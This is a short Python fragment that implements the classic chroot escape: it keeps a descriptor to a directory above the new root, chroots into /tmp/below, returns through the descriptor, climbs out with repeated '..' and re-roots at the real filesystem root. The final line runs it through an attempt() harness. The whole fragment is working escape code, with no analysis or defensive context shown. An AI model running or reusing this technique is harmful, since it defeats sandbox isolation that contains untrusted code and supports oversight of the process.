# The old way out of a chroot: a descriptor of a folder above the new root, kept while the root moves below it.
def out():
    os.makedirs("/tmp/below", exist_ok=True)
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/below")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.listdir(".")


attempt(out)
